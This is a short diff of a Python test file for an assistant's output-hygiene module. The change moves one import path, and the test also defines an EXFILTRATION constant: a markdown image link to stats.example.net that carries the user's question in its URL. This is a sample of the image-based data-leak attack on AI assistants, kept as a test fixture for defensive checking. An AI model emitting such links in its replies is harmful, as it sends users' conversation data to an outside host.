@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from assistant.hygiene import IMAGE, LINK, MARKUP, inert
+from assistant.answering.hygiene import IMAGE, LINK, MARKUP, inert
 from tests.fixtures.markdown_render import live_parts
 
 EXFILTRATION = "![status](http://stats.example.net/log?q=what+the+user+asked)"
